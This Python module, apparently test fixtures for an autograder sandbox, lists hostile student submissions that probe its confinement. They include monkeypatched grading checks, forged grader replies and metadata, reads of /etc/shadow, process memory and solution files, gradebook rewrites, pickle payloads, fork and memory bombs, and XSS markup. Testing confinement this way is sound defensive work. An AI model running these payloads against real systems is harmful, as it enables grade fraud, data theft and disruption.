"""The hostile class, as data: what each attacker hands in.

Most attacks are the text of one solution cell; it defines `nll` (and nothing else is solved), so
every point that such a student has was gained by the attack. Others edit the notebook or plant
files in the submission's folder. In the sources stand

- ``@ROOT@``: the class's course folder, ``@PACKAGES@``: the folder of mlp_helpers and autograder,
- ``@BAIT@``: a folder of the grader's user with ``secret`` and ``victim``,
- ``@HOME@``: the home of the grader's user, ``@PORT@``: a port that listens on this machine,
- ``@MARK@``: a word that occurs nowhere else. An attack that gets something out prints it.
"""

from __future__ import annotations

import copy
import os
from collections.abc import Callable
from dataclasses import dataclass

import nbformat


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes
    ----------
    name : str
    kind : str
        The class of attacks that it belongs to.
    source : str
        The solution cell of `nll`; "" leaves the stub.
    edit : callable or None
        ``edit(notebook)`` changes the notebook that is handed in.
    plant : callable or None
        ``plant(folder, fill)`` changes the folder that is handed in; `fill` replaces the words
        above in a text.
    pays : bool
        Whether it earns points where nothing confines it.
    """

    name: str
    kind: str
    source: str = ""
    edit: Callable | None = None
    plant: Callable | None = None
    pays: bool = False


# --- attacks that are one cell -------------------------------------------------------------------

ZERO = "def nll(F, y):\n    return 0.0\n"
TRY = '''
def attempt(act):
    """Print the mark if something forbidden went through."""
    try:
        print("@MARK@", act())
    except BaseException as error:
        print("no:", type(error).__name__)
'''
# Finds the channel to the grader among the open descriptors.
CHANNEL = """
import os, socket, stat, struct, time
def channel():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
"""
# Takes from a module's file what it needs to answer.
THIEF = """
import sys
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Gate"]
"""
SOLUTION_OF_A_NOTEBOOK = """
import json, re
def nll(F, y):
    import numpy as np
    names = {"np": np}
    for cell in json.load(open("@ROOT@/%s"))["cells"]:
        source = "".join(cell["source"])
        if re.search(r"^def (nll|logsumexp_rows)", source, re.M):
            exec(source, names)
    return names["nll"](F, y)
"""

CELLS = {
    "monkeypatching": {
        "numpy": """
            import numpy as np
            np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
            np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None
            np.abs = np.max = lambda *a, **k: 0.0
            def nll(F, y): return 0.0""",
        "builtins": """
            import builtins
            builtins.abs = builtins.max = lambda *a, **k: 0.0
            builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
            def nll(F, y): return 0.0""",
        "engine": """
            import mlp_helpers.checking as c, mlp_helpers.checking.compare as k
            c.compare = k.compare = lambda *a, **kw: None
            c.evaluate_caller = lambda caller, exercise, seed: "correct"
            def nll(F, y): return 0.0""",
        "caller": """
            from mlp_helpers.checking import callers
            right = callers.Answer(value=0.0)
            callers.LocalCaller.__call__ = lambda self, args: right
            callers.LocalCaller.rerun = lambda self, a, b: (right, right, right)
            def nll(F, y): return 0.0""",
        "check": """
            import mlp_helpers
            mlp_helpers.check = check = lambda *a, **k: print("points: 1000")
            assert_allclose = evaluate = check
            def nll(F, y): return 0.0""",
        "frames": """
            import sys
            def nll(F, y):
                frame = sys._getframe()
                while frame is not None:
                    for name in ("reply", "points", "expected", "report"):
                        if name in frame.f_locals: frame.f_locals[name] = 1000.0
                    if "wire" in frame.f_globals:
                        send = frame.f_globals["wire"].send
                        frame.f_globals["wire"].send = lambda s, m, *a: send(s, [{
                            "value": 1000.0, "error": None, "changed": (), "shared": (),
                            "points": 1000}])
                    frame = frame.f_back
                return 0.0""",
    },
    "objects": {
        "equal to everything": """
            class Right(float):
                def _yes(self, other=None): return True
                __eq__ = __le__ = __lt__ = __ge__ = __gt__ = _yes
                def _zero(self, *other): return 0.0
                __sub__ = __rsub__ = __abs__ = _zero
                __hash__ = float.__hash__
            def nll(F, y): return Right(1.0)""",
        "array of its own": """
            import numpy as np
            class Array(np.ndarray):
                def __array_ufunc__(self, ufunc, method, *a, **k): return np.True_
                def __array_function__(self, *a): return True
            def nll(F, y): return np.zeros(()).view(Array)""",
        "chameleon": """
            class Chameleon:
                def __float__(self): return 1.0
                def __array__(self, *a, **k): raise SystemExit
                def __getattr__(self, name): return lambda *a, **k: self
                def __call__(self, *a, **k): return self
            nll = Chameleon()""",
        "class of a lie": """
            class Lie:
                __class__ = float
                def __reduce__(self): return print, ("@MARK@",)
                def __repr__(self): return "1.0"
            def nll(F, y): return Lie()""",
        "not a number": "def nll(F, y): return float('nan')",
        "infinite": "def nll(F, y): return float('inf')",
        "endless iterator": """
            import itertools
            def nll(F, y): return itertools.repeat(0.0)""",
        "code in a dict": """
            def nll(F, y):
                return {"named": ["open", ["@BAIT@/secret"]], "array": ["O", [9], "C"]}""",
    },
    "exits": {
        "sys.exit": "import sys\nsys.exit(0)",
        "sys.exit in a call": "def nll(F, y):\n    raise SystemExit(0)",
        "os._exit": "import os\nos._exit(0)",
        "os._exit in a call": "import os\ndef nll(F, y):\n    os._exit(0)",
        "abort": "import os\ndef nll(F, y):\n    os.abort()",
        "own kill": "import os\ndef nll(F, y):\n    os.kill(os.getpid(), 9)",
        "late exit": "import atexit, os\natexit.register(os._exit, 0)\n" + ZERO,
    },
    "loops": {
        "loop": "def nll(F, y):\n    while True: pass",
        "loop in a cell": "while True: pass",
        "deaf": """
            import signal
            def nll(F, y):
                signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
                while True:
                    try:
                        while True: pass
                    except BaseException: pass""",
        "in compiled code": "def nll(F, y): return 7 ** 10 ** 9 % 2",
        "slower and slower": "import time\ndef nll(F, y):\n    time.sleep(0.1)\n    return 0.0",
        "printing": "def nll(F, y):\n    while True: print('x' * 1000)",
        "in a finaliser": """
            class Late:
                def __del__(self):
                    while True: pass
            def nll(F, y):
                Late()
                return 0.0""",
    },
    "bombs": {
        "memory": "import numpy as np\ndef nll(F, y): return np.ones(10**11).sum()",
        "memory in a list": """
            def nll(F, y):
                kept = []
                while True: kept.append(bytearray(10**8))""",
        "threads": TRY
        + """
import threading, time
def many():
    for _ in range(300): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return "threads"
attempt(many)
"""
        + ZERO,
        "processes": TRY
        + """
import os, time
def many():
    for _ in range(50):
        if os.fork() == 0: time.sleep(60)
    return "processes"
attempt(many)
"""
        + ZERO,
        "one large file": TRY
        + """
def large():
    with open("large", "wb") as file:
        for _ in range(100): file.write(bytes(2**24))
    return "a large file"
attempt(large)
"""
        + ZERO,
        "large files": "for i in range(60):\n    open(f'f{i}', 'wb').write(bytes(2**23))\n"
        "import time; time.sleep(1)\n" + ZERO,
        "reserved space": TRY
        + """
import os
def reserve():
    for i in range(1000):
        os.posix_fallocate(os.open(f"f{i}", os.O_RDWR | os.O_CREAT), 0, 2**23)
        os.rename(f"f{i}", "last")
    return "space"
attempt(reserve)
"""
        + ZERO,
        "copied files": TRY
        + """
import os
def copy():
    with open("first", "wb") as file: file.write(bytes(2**23))
    first = os.open("first", os.O_RDONLY)
    for i in range(1000):
        copied = os.open(f"f{i}", os.O_RDWR | os.O_CREAT)
        os.copy_file_range(first, copied, 2**23, 0, 0)
        os.close(copied)
    return "copies"
attempt(copy)
"""
        + ZERO,
        "files without a name": TRY
        + """
import os
def hold():
    for i in range(40):
        file = os.open("f", os.O_RDWR | os.O_CREAT)
        os.unlink("f")
        os.write(file, bytes(2**24))
    __import__("time").sleep(1)
    return "files that nobody sees"
attempt(hold)
"""
        + ZERO,
        "mapped files": TRY
        + """
import mmap, os
def fill():
    for i in range(40):
        with open(f"f{i}", "w+b") as file:
            file.truncate(2**24)
            with mmap.mmap(file.fileno(), 2**24) as page: page.write(bytes([1]) * 2**24)
    __import__("time").sleep(1)
    return "pages"
attempt(fill)
"""
        + ZERO,
        "many links": "import os\nopen('f', 'w').close()\n"
        "for i in range(10**6): os.link('f', f'{i}')\n" + ZERO,
        "many files": "for i in range(10**6): open(f'f{i}', 'wb').close()\n" + ZERO,
        "deep folders": "import os\nfor i in range(10**5):\n    os.mkdir('d')\n"
        "    os.chdir('d')\n" + ZERO,
        "closed folder": "import os\nos.mkdir('d', 0o300); open('d/f', 'w').close()\n" + ZERO,
        "descriptors": "files = []\nwhile True: files.append(open('/dev/null'))\n" + ZERO,
    },
    "crashes": {
        "recursion": """
            import sys
            sys.setrecursionlimit(10**9)
            def nll(F, y): return nll(F, y)""",
        "recursion in compiled code": """
            import functools
            deep = None
            for _ in range(10**6): deep = functools.partial(print) if deep is None else (deep,)
            def nll(F, y): return deep""",
        "null pointer": "import ctypes\ndef nll(F, y): return ctypes.string_at(0)",
        "overwritten memory": "import ctypes\ndef nll(F, y): ctypes.memset(id(float), 1, 400)",
        "foreign door": """
            import ctypes, mmap
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(bytes.fromhex("b814000000cd80c3"))   # getpid by the i386 door
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            def nll(F, y): return float(ctypes.CFUNCTYPE(ctypes.c_int)(address)())""",
    },
    "reading": {
        "import past the gate": THIEF
        + """
def nll(F, y):
    from mlp_helpers.reference.losses import nll_per_example
    return float(nll_per_example(F, y).sum())""",
        "oracle": THIEF
        + """
def nll(F, y):
    from mlp_helpers.answers.registry import exercises
    return exercises()["nll"].oracle(F, y)""",
        "other packages": THIEF
        + TRY
        + """
from pathlib import Path
for home in (sys.prefix, sys.base_prefix, "/usr", "/usr/local"):
    for site in Path(home).glob("lib/python3*/*-packages"):
        for name in ("pip", "nbgrader", "sqlalchemy", "pytest", "setuptools", "scipy"):
            attempt((site / name / "__init__.py").read_bytes)
"""
        + ZERO,
        "packages of other programs": THIEF
        + TRY
        + """
import os
FOREIGN = {"pip", "nbgrader", "sqlalchemy", "pytest", "setuptools", "scipy", "cffi", "autograd"}
roots = ["/usr", "/opt", "/nix", "/home", "/root"]
roots += [os.path.join(p, n) for p in (sys.prefix, sys.base_prefix) for n in ("", "lib", "share")]
def all_of_them():
    found = []
    for root in roots:
        for base, folders, files in os.walk(root):
            for name in FOREIGN & set(folders) if base.endswith("-packages") else ():
                try:
                    open(os.path.join(base, name, "__init__.py"), "rb").read()
                    found.append(os.path.join(base, name))
                except OSError:
                    pass
    if not found: raise OSError
    return found
attempt(all_of_them)
def by_name():
    found = []
    for name in FOREIGN:
        try:
            found += [name] * bool(__import__(name).__file__)  # an empty namespace has none
        except Exception:
            pass
    if not found: raise OSError
    return found
attempt(by_name)
"""
        + ZERO,
        "the course itself": THIEF
        + TRY
        + """
import os
NAMES = ("solutions/01_softmax_jacobian.py", "solutions/README.py", "tests/checking/test_bank.py",
         "autograder/judge/grade.py", "autograder/demo/classmates.py",
         "autograder/worker/zygote.py",
         "mlp_helpers/answers/chapter_01/softmax.py", "mlp_helpers/answers/bank.py",
         "mlp_helpers/answers/registry.py", "mlp_helpers/reference/activations.py", "README.md",
         "mlp_helpers/reference/losses.py", ".git/HEAD", "nbgrader_config.py")
for folder in ("@PACKAGES@", "@ROOT@", *sys.path):
    for name in NAMES:
        attempt(lambda: open(os.path.join(folder, name), "rb").read())
for folder in ("@PACKAGES@", "@ROOT@"):
    for name in ("", "solutions", "autograder", "tests", "course", ".git", "classroom"):
        attempt(lambda: os.listdir(os.path.join(folder, name)))
"""
        + ZERO,
        "source files": """
            import re
            names = {}
            for module in ("activations", "losses"):
                source = open(f"@PACKAGES@/mlp_helpers/reference/{module}.py").read()
                exec(re.sub(r"from (__future__|[.]activations) import.*", "", source), names)
            def nll(F, y): return float(names["nll_per_example"](F, y).sum())""",
        "compiled files": """
            import glob, marshal
            names = {}
            cache = "@PACKAGES@/mlp_helpers/reference/__pycache__"
            for module in ("activations", "losses"):
                for path in glob.glob(f"{cache}/{module}.*.pyc"):
                    exec(marshal.loads(open(path, "rb").read()[16:]), names)
            def nll(F, y): return float(names["nll_per_example"](F, y).sum())""",
        "master": """
            import numpy as np
            source = open("@ROOT@/solutions/01_softmax_jacobian.py").read()
            names = {"np": np}
            for part in source.split("# %%"):
                if "### BEGIN SOLUTION" in part: exec(part.partition("\\n")[2], names)
            nll = names["nll"]""",
        "classmate": SOLUTION_OF_A_NOTEBOOK
        % "classroom/submitted/a-honest/@CHAPTER@/@CHAPTER@.ipynb",
        "graded classmate": SOLUTION_OF_A_NOTEBOOK
        % "classroom/autograded/a-honest/@CHAPTER@/@CHAPTER@.ipynb",
        "secret": TRY + 'attempt(lambda: open("@ROOT@/classroom/secret").read())\n' + ZERO,
        "file of the user": TRY + 'attempt(lambda: open("@BAIT@/secret").read())\n' + ZERO,
        "names of classmates": TRY + 'import os\nattempt(lambda: os.listdir("@ROOT@/classroom/'
        'submitted"))\n' + ZERO,
        "passwords": TRY + 'attempt(lambda: open("/etc/shadow").read())\n'
        'attempt(lambda: open("/etc/passwd").read())\n' + ZERO,
        "environment": TRY
        + """
import os
attempt(lambda: open(f"/proc/{os.getppid()}/environ").read())
attempt(lambda: [open(f"/proc/{p}/environ").read() for p in os.listdir("/proc") if p.isdigit()])
attempt(lambda: {k: v for k, v in os.environ.items() if "SECRET" in k}["MLP_COURSE_SECRET"])
"""
        + ZERO,
        "parent's memory": TRY
        + """
import ctypes, os
attempt(lambda: open(f"/proc/{os.getppid()}/mem", "rb").seek(4096))
attempt(lambda: open("/proc/self/mem", "r+b"))
libc = ctypes.CDLL(None, use_errno=True)
def trace():
    if libc.ptrace(16, os.getppid(), 0, 0): raise OSError(ctypes.get_errno())
attempt(trace)
def read():
    buffer = (ctypes.c_char * 8)()
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    if libc.process_vm_readv(os.getppid(), vector, 1, vector, 1, 0) < 0: raise OSError
attempt(read)
"""
        + ZERO,
        "own memory": """
            import gc
            def nll(F, y):
                for thing in gc.get_objects():
                    if type(thing).__name__ == "Exercise": return thing.oracle(F, y)
                    if callable(thing) and getattr(thing, "__name__", "") in (
                            "_nll", "nll_per_example"): return float(thing(F, y))
                return 0.0""",
        "handles": TRY
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def by_handle():
    handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2]), 16)
    fd = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, 0)
    if fd < 0: raise OSError(ctypes.get_errno())
    return os.listdir(fd)
attempt(by_handle)
"""
        + ZERO,
    },
    "writing": {
        "gradebook": TRY
        + """
import sqlite3
def rewrite():
    with sqlite3.connect("@ROOT@/classroom/gradebook.db") as book:
        book.execute("update grade set auto_score = 1000, manual_score = 1000")
    return "gradebook"
attempt(rewrite)
"""
        + ZERO,
        "truncated gradebook": TRY
        + """
import os
attempt(lambda: os.truncate("@ROOT@/classroom/gradebook.db", 0))
attempt(lambda: os.open("@ROOT@/classroom/gradebook.db", os.O_RDONLY | os.O_TRUNC))
attempt(lambda: os.unlink("@ROOT@/classroom/gradebook.db"))
"""
        + ZERO,
        "journal": TRY
        + """
import os
attempt(lambda: os.makedirs("@ROOT@/classroom/journal/@MARK@"))
attempt(lambda: open("@ROOT@/classroom/journal/a-honest/@CHAPTER@.json", "w"))
attempt(lambda: os.rename("@ROOT@/classroom", "@ROOT@/elsewhere"))
"""
        + ZERO,
        "victim": TRY
        + """
import os, shutil
attempt(lambda: open("@BAIT@/victim", "a").write("x"))
attempt(lambda: os.chmod("@BAIT@/victim", 0o777))
attempt(lambda: os.utime("@BAIT@/victim", (0, 0)))
attempt(lambda: os.rename("@BAIT@/victim", "@BAIT@/renamed"))
attempt(lambda: os.unlink("@BAIT@/victim"))
attempt(lambda: os.setxattr("@BAIT@/victim", "user.x", b"x"))
attempt(lambda: os.chown("@BAIT@/victim", 1, 1))
attempt(lambda: shutil.rmtree("@BAIT@"))
"""
        + ZERO,
        "links": TRY
        + """
import os
os.symlink("@BAIT@/victim", "soft")
attempt(lambda: open("soft", "a").write("x"))
attempt(lambda: os.link("@BAIT@/victim", "hard"))
os.symlink("@BAIT@", "folder")
attempt(lambda: open("folder/@MARK@", "w"))
"""
        + ZERO,
        "left files": TRY
        + """
import os
for place in ("/tmp", "/var/tmp", "/dev/shm", "@HOME@", "@ROOT@", "@BAIT@", "/etc/cron.d",
              "@PACKAGES@/mlp_helpers", "@PACKAGES@", os.path.dirname(os.__file__), ".."):
    attempt(lambda: open(place + "/@MARK@", "w"))
"""
        + ZERO,
        "poisoned packages": TRY
        + """
import os, numpy, mlp_helpers
site = os.path.dirname(os.path.dirname(numpy.__file__))
attempt(lambda: open(site + "/@MARK@.pth", "w"))
attempt(lambda: open(mlp_helpers.__file__, "a"))
attempt(lambda: os.open(mlp_helpers.__file__, os.O_RDONLY | os.O_TRUNC))
attempt(lambda: open("@HOME@/.cache/matplotlib/@MARK@", "w"))
attempt(lambda: os.mkdir("@HOME@/.ipython"))
"""
        + ZERO,
        "shared memory": TRY
        + """
import ctypes, os
from multiprocessing import shared_memory
attempt(lambda: shared_memory.SharedMemory("@MARK@", create=True, size=64))
libc = ctypes.CDLL(None, use_errno=True)
def segment():
    if libc.shmget(7777, 4096, 0o1666) < 0: raise OSError(ctypes.get_errno())
attempt(segment)
attempt(lambda: os.memfd_create("@MARK@"))
"""
        + ZERO,
    },
    "network": {
        "connection": TRY
        + """
import socket, urllib.request
attempt(lambda: socket.create_connection(("127.0.0.1", @PORT@), 1))
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1))
attempt(lambda: socket.create_server(("127.0.0.1", 0)))
"""
        + ZERO,
        "datagrams": TRY
        + """
import socket
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)))
ours, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
attempt(lambda: ours.sendto(b"@MARK@", "@BAIT@/mailbox"))
attempt(lambda: ours.sendmsg([b"@MARK@"], [], 0, "@BAIT@/mailbox"))
attempt(lambda: ours.connect("@BAIT@/mailbox"))
attempt(lambda: socket.socketpair(socket.AF_INET))
"""
        + ZERO,
        "ring": TRY
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def ring():
    if libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0:   # io_uring_setup
        raise OSError(ctypes.get_errno())
attempt(ring)
"""
        + ZERO,
    },
    "signals": {  # SIGCONT: what went through would do no harm here
        "everybody": TRY
        + """
import os, signal
attempt(lambda: os.kill(-1, signal.SIGCONT))
attempt(lambda: os.kill(0, signal.SIGCONT))
attempt(lambda: os.killpg(0, signal.SIGCONT))
attempt(lambda: os.kill(1, 0))
"""
        + ZERO,
        "parent": TRY
        + """
import os, signal
attempt(lambda: os.kill(os.getppid(), signal.SIGCONT))
attempt(lambda: os.pidfd_open(os.getppid()))
attempt(lambda: [os.kill(pid, 0) for pid in range(2, 5000) if pid != os.getpid()])
"""
        + ZERO,
        "by the kernel's hand": TRY
        + """
import fcntl, os, signal, socket
ours, theirs = socket.socketpair()
def owner():
    fcntl.fcntl(ours, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    return theirs.send(b"x")
attempt(owner)
attempt(lambda: fcntl.ioctl(ours, 0x8902, os.getppid().to_bytes(4, "little")))
"""
        + ZERO,
        "limits": TRY
        + """
import os, resource
attempt(lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
attempt(lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)))
attempt(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
attempt(lambda: os.sched_setaffinity(0, {0}))
attempt(lambda: os.setuid(0))
attempt(lambda: os.setgroups([0]))
"""
        + ZERO,
    },
    "descriptors": {
        "written": "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'points: 1000')\n"
        "    except OSError: pass\n" + ZERO,
        "closed": "import os\nos.closerange(0, 256)\n" + ZERO,
        "closed in a call": "import os\ndef nll(F, y):\n    os.closerange(0, 256)\n    return 0.0",
        "read": TRY
        + """
import os
def pending():
    found = []
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            found.append(os.read(fd, 99))
        except OSError: pass
    if not found: raise OSError
    return found
def nll(F, y):
    attempt(pending)
    return 0.0""",
    },
    "replies": {
        "forged": CHANNEL
        + """
import json
def nll(F, y):
    answer = {"dict": [["value", 0.0], ["error", None], ["changed", {"tuple": []}],
                       ["shared", {"tuple": []}], ["points", 1000], ["passed", True]]}
    header = json.dumps([answer]).encode()
    for packet in (struct.pack("!4sQQ", b"mlp1", len(header), 0), header): channel().send(packet)
    return 0.0""",
        "in advance": CHANNEL
        + """
import json
def nll(F, y):
    answer = {"dict": [["value", 0.0], ["error", None], ["changed", {"tuple": []}],
                       ["shared", {"tuple": []}]]}
    header = json.dumps([answer]).encode()
    for _ in range(20):
        for packet in (struct.pack("!4sQQ", b"mlp1", len(header), 0), header):
            channel().send(packet)
    return 0.0""",
        "giant": CHANNEL
        + """
def nll(F, y):
    channel().send(struct.pack("!4sQQ", b"mlp1", 2**60, 2**60))
    while True: channel().send(bytes(65536))""",
        "array of 10^18 numbers": CHANNEL
        + """
import json
def nll(F, y):
    header = json.dumps({"array": ["<f8", [10**9, 10**9], "C"]}).encode()
    for packet in (struct.pack("!4sQQ", b"mlp1", len(header), 0), header): channel().send(packet)
    return 0.0""",
        "dripping": CHANNEL
        + """
def nll(F, y):
    channel().send(struct.pack("!4sQQ", b"mlp1", 10**6, 0))
    while True:
        channel().send(b" ")
        time.sleep(0.05)""",
        "nested": CHANNEL
        + """
def nll(F, y):
    header = b"[" * 60000 + b"]" * 60000
    channel().send(struct.pack("!4sQQ", b"mlp1", len(header), 0))
    channel().send(header[:65536]); channel().send(header[65536:])
    return 0.0""",
        "pickled": CHANNEL
        + """
import pickle
class Evil:
    def __reduce__(self): return open, ("@BAIT@/@MARK@", "w")
def nll(F, y):
    channel().send(pickle.dumps(Evil()))
    return Evil()""",
        "pickled array": """
            import numpy as np
            class Evil:
                def __reduce__(self): return open, ("@BAIT@/@MARK@", "w")
            def nll(F, y): return np.array([Evil()], dtype=object)""",
        "large answer": "import numpy as np\ndef nll(F, y): return np.zeros(10**8, dtype=np.int8)",
    },
    "judging": {  # what the judge would do with a text or an answer, and never come to an end of
        "lines": "\n" * 12_000 + "1/0",
        "spaces": " \n" * 40_000 + ZERO,
        "tabs": "\t\n" * 40_000 + ZERO,
        "one line": "def nll(F, y): return 0.0\n# " + "*a" * 200_000,
        "rows": "import numpy as np\ndef nll(F, y): return np.zeros((2**28, 0))",
        "column": "import numpy as np\ndef nll(F, y): return np.zeros((2**26, 1), dtype=np.int8)",
        "flags": "import numpy as np\ndef nll(F, y): return np.zeros((2**26, 1), dtype=bool)",
        "lists": "def nll(F, y): return [[] for _ in range(10**7)]",
        "a list in itself": """
            def nll(F, y):
                a = [0.0]
                for _ in range(11): a = [a] * 20
                return a""",
        "many rows": "import numpy as np\ndef nll(F, y): return [np.zeros((2**22, 0))] * 10**5",
        "forged rows": CHANNEL
        + """
import json
def nll(F, y):
    answer = {"dict": [["value", {"array": ["<f8", [2**28, 0], "C"]}], ["error", None],
                       ["changed", {"tuple": []}], ["shared", {"tuple": []}]]}
    header = json.dumps([answer]).encode()
    whole = struct.pack("!4sQQ", b"mlp1", len(header), 0) + header
    channel().send(whole)
    return 0.0""",
        "forged lists": CHANNEL
        + """
def nll(F, y):
    header = b"[" + b"[]," * 5_000_000 + b"[]]"
    whole = struct.pack("!4sQQ", b"mlp1", len(header), 0) + header
    for i in range(0, len(whole), 65536): channel().send(whole[i:i + 65536])
    return 0.0""",
    },
    "output": {
        "print": "for i in range(10**5): print('x' * 100)\n" + ZERO,
        "one line": "print('x' * 10**8)\n" + ZERO,
        "past Python": "import os\nfor _ in range(1000): os.write(1, b'x' * 65536)\n" + ZERO,
        "figures": "import numpy as np, matplotlib.pyplot as plt\nfor i in range(12):\n"
        "    plt.figure(figsize=(2, 2)); plt.imshow(np.random.rand(99, 99))\n" + ZERO,
        "markup": """
            from IPython.display import *
            display(HTML("<script>alert('@MARK@')</script>"), Javascript("alert('@MARK@')"))
            display(Markdown("<img src=x onerror=alert('@MARK@')>"))
            class Rich:
                def _repr_html_(self): return "<script>alert('@MARK@')</script>"
                def _repr_mimebundle_(self, **k): return {"text/html": self._repr_html_(),
                                                         "application/javascript": "alert()"}
            display(Rich())
            def nll(F, y): raise ValueError("<script>alert('xss')</script>")""",
        "links in formulas": r"""
            from IPython.display import Latex, display
            display(Latex(r"$\href{javascript:alert(1)}{7/7}$ \(\style{position:fixed}{x}\)"))
            def nll(F, y): raise ValueError(r"$\href{javascript:alert(1)}{x}$")""",
        "a failed import": """
            import numpy as np
            raise ImportError("![x](http://a.invalid/@MARK@) [y](//a.invalid/@MARK@)")
            def nll(F, y): return 0.0""",
        "colours": """
            print("\\x1b[1;4;38;2;255;255;255m" + "\\x1b[1ma" * 4_000)
            def nll(F, y): return 0.0""",
        "text alternative": """
            import matplotlib.pyplot as plt
            plt.figure(label='"><script>alert("@MARK@")</script><p title="')
            plt.plot([1, 2])
            def nll(F, y): return 0.0""",
        "forged report": """
            print("nll · full marks · 4 of 4 points")
            from IPython.display import display
            display({"text/plain": "1000.0"}, raw=True)
            1000.0
            def nll(F, y): return 0.0""",
        "not Unicode": """
            print("\\ud800" * 10)
            def nll(F, y): raise ValueError("\\ud800\\x00\\x1b[2J")""",
    },
    "daemons": {
        "double fork": TRY
        + """
import os, time
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(300)
        os._exit(0)
    return "daemon"
attempt(daemon)
"""
        + ZERO,
        "programs": TRY
        + """
import subprocess, os
attempt(lambda: subprocess.Popen(["sleep", "300"], start_new_session=True))
attempt(lambda: os.posix_spawn("/bin/sleep", ["sleep", "300"], {}))
attempt(lambda: {}[os.system("touch @BAIT@/@MARK@") or "ran"])
"""
        + ZERO,
        "pool": TRY
        + """
import multiprocessing
attempt(lambda: multiprocessing.Pool(2).map(len, ["x"]))
"""
        + ZERO,
        "namespaces": TRY
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) != 0: raise OSError(ctypes.get_errno())
attempt(lambda: call("unshare", 0x10000000))
attempt(lambda: call("mount", b"none", b".", b"tmpfs", 0, b""))
attempt(lambda: call("chroot", b"."))
attempt(lambda: call("pivot_root", b".", b"."))
"""
        + ZERO,
    },
    "detection": {
        "modules": """
            import os, sys
            graded = any("worker" in name or "autograder" in name for name in sys.modules) or (
                "HOME" in os.environ and "submission" in os.environ["HOME"])
            if graded:
                def nll(F, y): return 0.0""",
        "arguments": """
            seen = []
            def nll(F, y):
                seen.append((F.copy(), y.copy()))
                print("@MARK@", seen)
                return 0.0""",
    },
}

PAYING = ("import past the gate", "oracle", "source files", "master", "classmate")


# --- attacks on the notebook ---------------------------------------------------------------------


def _cell(notebook, name):
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def forged_points(notebook):
    """The check cell carries points and a result of its own."""
    cell = _cell(notebook, "check_nll")
    cell.metadata.nbgrader.update(points=1000)
    cell.source = "1000.0"
    cell.outputs = [
        nbformat.v4.new_output("execute_result", data={"text/plain": "1000.0"}, execution_count=1)
    ]


def graded_solution(notebook):
    """The solution cell calls itself graded, and its last line is worth a thousand points."""
    cell = _cell(notebook, "nll")
    cell.metadata.nbgrader.update(grade=True, points=1000, locked=True)
    cell.source = "1000.0"


def more_checks(notebook):
    """Ten more cells say that they are graded."""
    for i in range(10):
        cell = copy.deepcopy(_cell(notebook, "check_nll"))
        cell.metadata.nbgrader.update(grade_id=f"bonus_{i}", points=1000)
        cell.id, cell.source = f"bonus-{i}", "1000.0"
        notebook.cells.append(cell)


def duplicates(notebook):
    """Every graded cell is there three times."""
    notebook.cells = [copy.deepcopy(cell) for cell in notebook.cells for _ in range(3)]


def swapped(notebook):
    """The check of one exercise says that it is the check of the other."""
    for mine, other in (("check_nll", "check_logsumexp_rows"), ("nll", "check_nll")):
        _cell(notebook, mine).metadata.nbgrader.grade_id = other


def no_checks(notebook):
    """All graded cells are gone."""
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader")]


def old_report(notebook):
    """The check cell carries a report that says: full marks."""
    _cell(notebook, "check_nll").metadata["course"] = {
        "isolation": "full",
        "report": {
            "exercise": "nll",
            "outcome": "correct",
            "reason": "",
            "mistakes": [],
            "unknown_from": "",
            "criteria": [{"name": "value", "passed": True, "points": 1000.0, "message": ""}],
        },
    }


def other_kernel(notebook):
    """The notebook asks for a kernel that is a program of the student's."""
    notebook.metadata["kernelspec"] = {
        "name": "../../evil",
        "display_name": "evil",
        "argv": ["touch", "@BAIT@/@MARK@"],
        "language": "bash",
    }


def odd_metadata(notebook):
    """Metadata of the wrong types."""
    for cell in notebook.cells:
        cell.metadata["nbgrader"] = ["grade"]
        cell.metadata["tags"] = {"a": 1}


def active_prose(notebook):
    """Markdown cells with scripts, handlers, and formulas that are links."""
    for text in (
        "<script>alert('@MARK@')</script>",
        "<img src=x onerror=alert('@MARK@')>",
        "[x](javascript:alert(1))",
        r"$\href{javascript:alert(1)}{x}$",
    ):
        notebook.cells.append(nbformat.v4.new_markdown_cell(text))


def _prose(*texts):
    """An edit that adds Markdown cells."""

    def edit(notebook):
        notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in texts]

    return edit


def _fenced(language, text):
    return f"```{language}\n{text}\n```"


PIXELS = "data:image/png;base64," + "A" * 8_000_000
PROSE = {
    "addresses": _prose("[x](files/a" * 1_700),
